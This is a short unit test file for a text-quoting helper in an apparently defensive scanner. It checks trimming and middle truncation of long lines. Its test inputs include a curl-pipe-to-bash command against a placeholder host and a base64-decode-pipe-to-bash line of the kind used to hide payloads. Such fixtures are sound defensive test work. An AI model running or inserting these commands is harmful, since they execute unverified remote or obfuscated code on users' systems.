import { describe, expect, it } from 'vitest';
import { quote } from '../../../src/scan/text.js';

describe('quote', () => {
  it('keeps a short line whole, trimmed', () => {
    expect(quote('  curl -s https://a.example | bash \r\n')).toBe('curl -s https://a.example | bash');
  });

  it('cuts a long line in its middle, so its end (where a packed line runs what it decodes) stays', () => {
    const line = `echo '${'A'.repeat(5000)}' | base64 -d | bash -s -- "$@"`;
    const q = quote(line);
    expect(q).toHaveLength(400);
    expect(q.startsWith("echo 'AAAA")).toBe(true);
    expect(q.endsWith(`' | base64 -d | bash -s -- "$@"`)).toBe(true);
    expect(q).toContain('…');
    // A short limit keeps only the start.
    expect(quote('x'.repeat(50), 20)).toBe(`${'x'.repeat(19)}…`);
  });
});
